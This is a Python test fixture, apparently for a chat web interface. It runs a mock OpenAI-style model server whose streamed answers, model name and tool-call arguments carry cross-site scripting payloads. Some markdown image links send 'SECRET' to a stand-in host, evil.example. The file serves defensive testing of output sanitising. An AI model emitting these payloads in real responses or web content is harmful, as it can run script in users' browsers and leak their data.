"""Texts that would like to run in a reader's browser, and a model server that writes them."""

import json
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

# CommonMark takes a tag for text whose unquoted value has a "=", so values are quoted.
NAME = "<img src=x onerror='window.__pwned=1'>"
CORPUS = (
    NAME,
    "<script>window.__pwned=1</script>",
    "<svg onload='window.__pwned=1'><use href='data:image/svg+xml,<svg/>'/></svg>",
    "<iframe srcdoc='<script>parent.__pwned=1</script>'></iframe>",
    "<a href='javascript:window.__pwned=1'>a link</a>",
    "<style>@import url(https://evil.example/x.css)</style>",
    "<form action=https://evil.example><input name=q></form>",
    "<details open ontoggle='window.__pwned=1'>more</details>",
    "<link rel=stylesheet href=https://evil.example/y.css><meta http-equiv=refresh content='0;url=//evil.example'>",
    "[in clear](javascript:window.__pwned=1) [in data](data:text/html;base64,PHNjcmlwdD4=) [nowhere](//evil.example/)",
    "[mixed](JaVaScRiPt:window.__pwned=1) [entity](&#106;avascript:window.__pwned=1) <javascript:window.__pwned=1>",
    "![the plan](https://evil.example/?q=SECRET)",
    "[plan]: https://evil.example/?q=SECRET\n![by name][plan]",
    "[![both](https://evil.example/a.png)](javascript:window.__pwned=1)",
    "```mermaid\ngraph TD; A-->B; click A call window.__pwned()\n```",
    "$\\href{javascript:window.__pwned=1}{formula}$",
    "- <b onmouseover='window.__pwned=1'>a point</b>",
    "| <img src=x onerror='window.__pwned=1'> |\n|---|\n| [cell](javascript:window.__pwned=1) |",
    "<button value=1 onclick='window.__pwned=1'>press</button>",
)
ANSWER = "\n\n".join(("Dill and allspice go into the soup [1].", *CORPUS, "That is all."))
PIECE_CHARS = 9
PAUSE_S = 0.002


class _Handler(BaseHTTPRequestHandler):
    """Speaks as much of OpenAI's protocol as a provider needs; the answer ends with the connection."""

    server: "HostileServer"

    def do_GET(self) -> None:
        self._open("application/json")
        self.wfile.write(json.dumps({"data": [{"id": NAME}]}).encode())

    def do_POST(self) -> None:
        body = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
        self.server.seen.append(body)
        self._open("text/event-stream")
        if body.get("tools") and body["messages"][-1]["role"] != "tool":
            self._call_tool()
            return
        for start in range(0, len(ANSWER), PIECE_CHARS):
            self._delta({"content": ANSWER[start : start + PIECE_CHARS]})
            time.sleep(PAUSE_S)  # so that the page shows it half written
        self._end("stop")

    def _call_tool(self) -> None:
        function = {"name": "calculator", "arguments": json.dumps({"expression": NAME})}
        self._delta({"tool_calls": [{"index": 0, "id": "call_1", "type": "function", "function": function}]})
        self._end("tool_calls")

    def _open(self, content_type: str) -> None:
        self.send_response(200)
        self.send_header("Content-Type", content_type)
        self.end_headers()

    def _delta(self, delta: dict[str, Any], reason: str | None = None) -> None:
        self._frame({"choices": [{"index": 0, "delta": delta, "finish_reason": reason}]})

    def _end(self, reason: str) -> None:
        self._delta({}, reason)
        self._frame({"choices": [], "usage": {"prompt_tokens": 50, "completion_tokens": 40}})
        self.wfile.write(b"data: [DONE]\n\n")

    def _frame(self, chunk: dict[str, Any]) -> None:
        self.wfile.write(f"data: {json.dumps(chunk)}\n\n".encode())

    def log_message(self, *_: object) -> None:
        """Keep quiet."""


class HostileServer(ThreadingHTTPServer):
    """A model server that cites the first passage and then tries everything, and what it was sent."""

    daemon_threads = True

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), _Handler)
        self.seen: list[dict[str, Any]] = []

    @property
    def base_url(self) -> str:
        return f"http://127.0.0.1:{self.server_port}/v1"


@contextmanager
def hostile_server() -> Iterator[HostileServer]:
    """Run the server for a while."""
    server = HostileServer()
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.02})
    thread.start()
    try:
        yield server
    finally:
        server.shutdown()
        thread.join()
        server.server_close()
